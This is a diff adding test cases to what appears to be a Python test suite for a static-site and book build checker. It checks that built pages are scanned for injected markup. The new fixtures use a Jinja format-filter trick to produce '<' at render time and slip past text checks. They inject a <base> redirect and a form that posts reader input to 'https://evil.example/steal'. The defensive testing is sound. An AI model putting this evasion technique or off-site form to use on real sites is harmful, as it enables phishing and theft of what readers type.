@@ -1490,6 +1490,22 @@ CASES |= {
 }
 
 
+# Eighth hostile round: markup a Jinja expression computes, which no check of a template's text can read, is
+# found on the built pages.
+CASES |= {
+    "a template computing a <base> with a format filter": (
+        replace(TEMPLATE, DRAWER, DRAWER + '{{ "%c"|format(60) }}base href="https://evil.example/">'),
+        "site/index.html: a <base> element, which moves every relative link of the page elsewhere; remove it from the page "
+        "or the data it came from: pages and data carry no scripts"),
+    "a template computing a form posting off site": (
+        replace(TEMPLATE, DRAWER, DRAWER + '{{ "%c"|format(60) }}form action="https://evil.example/steal">'
+                '{{ "%c"|format(60) }}input name=q>{{ "%c"|format(60) }}/form>'),
+        "site/index.html: a <form action> that sends what readers type to 'https://evil.example/steal'; remove it from the "
+        "page or the data it came from: pages and data carry no scripts"),
+}
+RENDERED_TEMPLATES |= {"a template computing a <base> with a format filter", "a template computing a form posting off site"}
+
+
 # Found only once the site or the PDF is made: these run as whole builds, as do a few of the others, which
 # show that what edition.load refuses, the build program refuses the same way, exit status and all.
 RENDERED = {"a package the book's template would download, reported once",
